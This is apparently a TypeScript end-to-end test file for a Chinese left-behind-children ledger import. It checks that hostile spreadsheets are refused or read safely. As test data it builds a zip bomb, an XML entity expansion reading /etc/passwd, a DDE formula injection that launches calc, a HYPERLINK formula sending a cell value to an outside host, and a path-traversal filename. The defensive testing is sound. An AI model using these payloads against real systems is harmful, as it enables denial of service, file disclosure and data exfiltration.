/** Hostile ledger files from end to end: through the page's upload and through the command line, with the server's memory watched. */
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { Problem } from "../../src/kernel/problem.ts";
import type { ImportBatch } from "../../src/modules/registry/imports/import-batch.contract.ts";
import { importFile } from "../../src/modules/registry/imports/import-file.cli.ts";
import {
  compoundFiles,
  packageParts,
  relationshipsXml,
  sheetXml,
  workbookXml,
  zipOf,
} from "../../src/platform/excel/test-files.ts";
import type { Agent } from "../support/app.ts";
import { type FaultWorld, openFaultWorld } from "./fault-world.ts";
import { multipart } from "./fuzz-shots.ts";
import { faultsOf } from "./refusals.ts";

const SHEET = "xl/worksheets/sheet1.xml";
const MEMORY_MB = 200;

let world: FaultWorld;
let supervisor: Agent;
let folder: string;

beforeAll(async () => {
  world = await openFaultWorld();
  supervisor = await world.test.as("supervisor");
  folder = await mkdtemp(join(tmpdir(), "tongan-hostile-"));
  // The first thread and its modules are not what a file costs.
  await send(Buffer.from("今天天气很好"), "暖机.csv");
}, 60_000);
afterAll(async () => {
  await rm(folder, { recursive: true });
  await world.close();
});

const send = (bytes: Buffer, name: string) =>
  supervisor.request({
    method: "POST",
    url: "/api/imports",
    ...multipart({ ledger: "leftBehind", asOf: "2020-12-31" }, bytes, name),
  });

const text = (value: string) => `<c t="inlineStr"><is><t xml:space="preserve">${value}</t></is></c>`;
const row = (at: number, cells: readonly string[], more = "") =>
  `<row r="${at}">${cells.map(text).join("")}${more}</row>`;
const HEADINGS = ["村（社区）", "姓名", "性别", "出生日期", "身份证号", "父亲姓名"];
const CHILD = ["沙嘴村", "常某某", "男", "2015-03-02", "500199201503020011", "常父"];

async function encrypted(): Promise<Buffer> {
  const file = compoundFiles.utils.cfb_new();
  for (const name of ["EncryptionInfo", "EncryptedPackage"])
    compoundFiles.utils.cfb_add(file, `/${name}`, Buffer.alloc(5000, 1));
  return Promise.resolve(compoundFiles.write(file, { type: "buffer" }));
}

const bomb = () => zipOf(packageParts({ [SHEET]: sheetXml(" ".repeat(120 << 20)) }));

const entities = () => {
  const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`);
  const type = `<!DOCTYPE x [<!ENTITY l0 "哈">${laughs.join("")}<!ENTITY f SYSTEM "file:///etc/passwd">]>`;
  return zipOf(packageParts({ [SHEET]: type + sheetXml(row(1, ["&l9;", "&f;"])) }));
};

const emptyRows = () => {
  const rows = Array.from({ length: 1_048_576 }, (_, at) => `<row r="${at + 1}" ht="20" customHeight="1"/>`);
  return zipOf(packageParts({ [SHEET]: sheetXml(rows.join("")) }));
};

const manyRows = () => {
  const cells = '<c t="inlineStr"><is><t>1</t></is></c>';
  const rows = [row(1, HEADINGS), ...Array.from({ length: 300_001 }, () => `<row>${cells}</row>`)];
  return zipOf(packageParts({ [SHEET]: sheetXml(rows.join("")) }));
};

const wordDocument = () => zipOf({ "[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>" });

const REFUSED: readonly (readonly [string, string, () => Promise<Buffer>, string])[] = [
  [
    "a photo",
    "台账.xlsx",
    () => Promise.resolve(Buffer.from("\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0", "latin1")),
    "excel.notASpreadsheet",
  ],
  ["a Word document", "台账.xlsx", wordDocument, "excel.notASpreadsheet"],
  ["a workbook with a password", "台账.xlsx", encrypted, "excel.encrypted"],
  ["a zip bomb", "台账.xlsx", bomb, "excel.zipBomb"],
  ["entities that grow and read files", "台账.xlsx", entities, "excel.unsafeXml"],
  [
    "half a workbook",
    "台账.xlsx",
    async () => (await zipOf(packageParts())).subarray(0, 300),
    "excel.damaged",
  ],
  [
    "a web page that is called .xls",
    "台账.xls",
    () => Promise.resolve(Buffer.from("<html><table><tr><td>姓名</td></tr></table></html>")),
    "excel.webPage",
  ],
  [
    "NUL bytes that are called .csv",
    "台账.csv",
    () => Promise.resolve(Buffer.from("姓名,性别\0\n\0\0\0\x01\x02\xff\xfe", "latin1")),
    "excel.notASpreadsheet",
  ],
  ["a million empty rows", "台账.xlsx", emptyRows, "registry.import.noTable"],
];

describe("a ledger file that cannot be read", () => {
  it.each(REFUSED)(
    "%s is refused in words, and nothing of it stays",
    async (what, name, make, code) => {
      const bytes = await make();
      const before = await world.marks();
      const quiet = process.memoryUsage.rss();
      const answer = await send(bytes, name);
      const grown = (process.memoryUsage.rss() - quiet) / 1048576;
      expect(answer.json<{ code: string }>().code, what).toBe(code);
      expect(faultsOf(answer)).toEqual([]);
      expect(await world.marks()).toEqual(before);
      expect(grown).toBeLessThan(MEMORY_MB);
      expect((await supervisor.get("/api/imports")).statusCode).toBe(200);
    },
    60_000,
  );

  it.each(REFUSED.filter(([, , , code]) => code.startsWith("excel.")))(
    "%s is refused by the command line with the same words",
    async (_what, name, make, code) => {
      const path = join(folder, name);
      await writeFile(path, await make());
      const refusal = await check(path).then(
        () => undefined,
        (error: unknown) => error,
      );
      expect(refusal).toBeInstanceOf(Problem);
      expect(refusal).toMatchObject({ code, detail: expect.stringMatching(/\p{Script=Han}/u) as string });
    },
    60_000,
  );

  it("more rows than can be read at once are told as such, by the page and by the command line", async () => {
    const bytes = await manyRows();
    const quiet = process.memoryUsage.rss();
    const answer = await send(bytes, "台账.xlsx");
    // The page looks only at the beginning; the check counts.
    expect(answer.statusCode, answer.body).toBe(200);
    expect((process.memoryUsage.rss() - quiet) / 1048576).toBeLessThan(MEMORY_MB);
    const path = join(folder, "many.xlsx");
    await writeFile(path, bytes);
    await expect(check(path)).rejects.toMatchObject({ code: "excel.tooManyRows" });
  }, 60_000);
});

/** The lines that the command line would print. */
async function check(path: string): Promise<string[]> {
  const printed: string[] = [];
  await importFile(
    { path, ledger: "leftBehind", asOf: "2020-12-31", mode: "check", json: true },
    () => Promise.reject(new Error("a check opens no register")),
    { print: (lines) => printed.push(...lines.split("\n")), say: () => undefined },
  );
  return printed;
}

describe("a ledger file with traps that is read all the same", () => {
  const trapped = () => {
    const formula = '<c t="str"><f>HYPERLINK("http://example.invalid/?"&amp;E3,"常父")</f><v>常父</v></c>';
    const outside = '<c t="str"><f>[1]Sheet1!A1</f><v>常父</v></c>';
    const rows = [
      row(1, ["古楼镇农村留守儿童名册（2020年第四季度）"]),
      row(2, HEADINGS),
      row(3, CHILD.slice(0, 5), formula),
      row(4, ["沙嘴村", "=cmd|&apos; /C calc&apos;!A0", "男", "2015-02-30", "", "@SUM(1)"]),
      row(5, ["沙嘴村", "常二二", "女", "2015-03-02", "500199201503020046"], outside),
    ];
    return zipOf(
      packageParts({
        "xl/workbook.xml": workbookXml(undefined, ""),
        "xl/_rels/workbook.xml.rels": relationshipsXml(
          ["rId1", "worksheet", "worksheets/sheet1.xml"],
          ["rId9", "externalLink", "externalLinks/externalLink1.xml"],
        ),
        "xl/externalLinks/externalLink1.xml": "<externalLink/>",
        [SHEET]: sheetXml(rows.join("")),
      }),
    );
  };

  it("takes formulas by their stored result, links nowhere, and says at the cell that 2015-02-30 is no day", async () => {
    const path = join(folder, "trapped.xlsx");
    await writeFile(path, await trapped());
    const lines = (await check(path)).map(
      (line) => JSON.parse(line) as { row?: number; codes?: { code: string }[] },
    );
    const codes = new Map(lines.map(({ row: at, codes: said }) => [at, said?.map(({ code }) => code)]));
    expect(codes.get(3)).not.toContain("name.invalid");
    expect(codes.get(4)).toEqual(["name.invalid", "date.impossible", "citizenNo.missing"]);
  });

  it("shows its name without the path that it came with", async () => {
    const answer = await send(await trapped(), "..\\..\\..\\etc\\pass\u0000wd\u202Exslx.xlsx");
    expect(answer.statusCode, answer.body).toBe(200);
    expect(answer.json<ImportBatch>().fileName).toBe("passwdxslx.xlsx");
  });
});
